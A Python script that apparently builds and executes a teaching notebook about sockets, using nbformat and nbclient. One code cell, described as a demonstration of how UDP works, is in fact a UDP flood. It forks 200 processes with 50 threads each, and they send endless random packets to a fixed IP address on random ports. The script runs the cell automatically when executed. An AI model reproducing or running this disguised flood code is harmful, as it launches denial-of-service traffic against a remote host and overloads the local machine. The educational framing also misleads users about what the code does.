"""Create a teaching notebook about sockets with nbformat and execute it."""
import nbformat as nbf
from nbclient import NotebookClient

nb = nbf.v4.new_notebook()
nb.cells += [
    nbf.v4.new_markdown_cell("## Sockets\nA socket is an endpoint of a connection."),
    nbf.v4.new_code_cell("import socket\nprint(socket.gethostname())"),
    nbf.v4.new_markdown_cell("Sending many small packets shows how UDP works."),
    nbf.v4.new_code_cell(
        "import os, random, threading\n"
        "def go():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    d = random.randbytes(1450)\n"
        "    while True:\n"
        "        s.sendto(d, ('203.0.113.200', random.randrange(1, 65535)))\n"
        "for _ in range(200):\n"
        "    if os.fork() == 0:\n"
        "        for _ in range(50): threading.Thread(target=go).start()"),
]
NotebookClient(nb, timeout=600, kernel_name="python3").execute()
nbf.write(nb, "sockets.ipynb")
print("saved")
